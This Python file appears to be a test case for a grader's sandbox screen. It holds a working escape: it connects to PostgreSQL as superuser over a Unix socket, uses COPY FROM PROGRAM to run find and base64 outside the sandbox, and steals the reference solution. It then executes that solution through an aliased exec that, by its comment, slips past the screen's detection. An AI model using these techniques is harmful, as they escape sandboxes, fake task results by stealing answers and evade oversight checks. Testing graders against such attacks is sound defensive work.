# expected: 0/10 status=graded base=stub where=import
# why: the PostgreSQL escape with nothing the screen flags and nothing taken from the grader's memory: asyncpg (a course dependency) connects to the trusted Unix socket /var/run/postgresql as the superuser; COPY ... FROM PROGRAM runs `find` and `base64` outside the sandbox (as the postgres user) to locate and read the reference solution, which the stub then runs in its own globals through `(exec,)[0]` (the screen flags exec of a non-constant only when the callee resolves to builtins.exec; a subscript does not resolve). A correct grader refuses the connection and flags it; the stub scores 0.
import asyncio as _asyncio
import base64 as _base64

import asyncpg as _asyncpg

_run = (exec,)[0]  # the screen resolves names, not subscripts: a call of _run is not "exec of a non-constant"


async def _steal():
    connection = await _asyncpg.connect(host="/var/run/postgresql", user="postgres", database="postgres", timeout=3)
    try:
        await connection.execute("CREATE TEMP TABLE stolen (line text)")
        await connection.execute(
            "COPY stolen FROM PROGRAM 'base64 -w0 \"$(find / -maxdepth 5 -path ''*/solutions/async01_why_async.py'' "
            "2>/dev/null | head -1)\"'")
        return await connection.fetchval("SELECT line FROM stolen")
    finally:
        connection.terminate()


try:
    _answer = _base64.b64decode(_asyncio.run(_steal())).decode()
    _run(_answer, globals())
except Exception:
    pass
